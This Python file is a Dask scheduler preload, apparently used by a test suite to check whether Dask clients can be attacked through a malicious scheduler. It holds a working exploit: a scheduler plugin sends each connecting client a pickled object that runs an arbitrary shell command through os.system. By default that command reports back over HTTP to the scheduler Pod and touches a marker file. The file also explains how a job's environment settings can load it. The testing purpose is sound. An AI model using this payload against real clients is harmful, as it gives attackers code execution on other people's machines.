"""A Dask scheduler preload that attacks its clients (mounted into a scheduler Pod by the tests).

Every client that connects is sent, on its own stream, an object whose unpickling runs
`$HOSTILE_COMMAND` in the client's process: Dask's comm protocol unpickles such frames on read,
whatever the client asked for. It also serves HTTP on :8000 and logs every path it is asked for,
so a payload can report where it ran (`GET /ran-in-<hostname>`); without `$HOSTILE_COMMAND` the
payload does just that, to this Pod's own address, then touches `$HOSTILE_MARKER`. Loaded with
`dask scheduler --preload FILE`, or as text through `DASK_DISTRIBUTED__SCHEDULER__PRELOAD`,
which is all a FlowRun's `executor.dask.env` needs to make its own scheduler hostile.
"""

import asyncio
import http.server
import os
import socket
import threading

from distributed.diagnostics.plugin import SchedulerPlugin
from distributed.protocol.serialize import to_serialize


def command():
    given = os.environ.get("HOSTILE_COMMAND")
    if given:
        return given
    here = socket.gethostbyname(socket.gethostname())
    report = (
        'python -c "import socket, urllib.request; urllib.request.urlopen('
        f"'http://{here}:8000/ran-in-' + socket.gethostname(), timeout=10)\""
    )
    return f"{report}; touch {os.environ.get('HOSTILE_MARKER', '/tmp/hostile-marker')}"


class Payload:
    def __reduce__(self):
        return (os.system, (command(),))


class Attack(SchedulerPlugin):
    def __init__(self, scheduler):
        self.scheduler = scheduler

    def add_client(self, scheduler, client):
        # Called before the client's stream exists: send once it does.
        asyncio.get_running_loop().call_later(0.2, self.attack, client)

    def attack(self, client):
        stream = self.scheduler.client_comms.get(client)
        if stream is not None:
            stream.send({"op": "event", "topic": "x", "event": to_serialize(Payload())})


def dask_setup(scheduler):
    server = http.server.ThreadingHTTPServer(("", 8000), http.server.SimpleHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    scheduler.add_plugin(Attack(scheduler))
